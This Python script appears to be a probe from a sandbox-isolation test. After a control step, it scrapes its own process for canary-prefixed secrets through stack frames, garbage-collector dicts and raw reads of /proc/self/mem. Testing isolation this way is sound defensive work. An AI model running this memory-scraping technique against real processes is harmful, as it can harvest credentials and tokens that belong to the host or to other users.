"""Searches all of its own memory for the host's secrets: objects, frames, and the raw pages.

Escape: a secret that a fork or a frame left behind
Control: a text of its own is found there
"""

# control
import gc
import sys

needle = ["-".join(["MY", "OWN", "TEXT"])]
any(isinstance(one, list) and one == needle for one in gc.get_objects())

# attack
import re

prefix = b"CAN" + b"ARY-"
loot = []
frame = sys._getframe()
while frame:
    loot += [repr(value)[:300] for value in list(frame.f_locals.values()) if prefix.decode() in repr(value)[:100_000]]
    frame = frame.f_back
for one in gc.get_objects():
    if isinstance(one, dict):
        loot += [value for value in list(one.values()) if type(value) is str and value.startswith(prefix.decode())]
try:
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
        for line in maps:
            start, end = (int(x, 16) for x in line.split()[0].split("-"))
            if "r" in line.split()[1] and end - start < 64 << 20 and "[v" not in line:
                try:
                    memory.seek(start)
                    loot += [bytes(x) for x in re.findall(prefix + rb"[a-z-]+-[0-9a-f]{24}", memory.read(end - start))]
                except OSError:
                    continue
except OSError as error:
    print(error)
loot[:20]
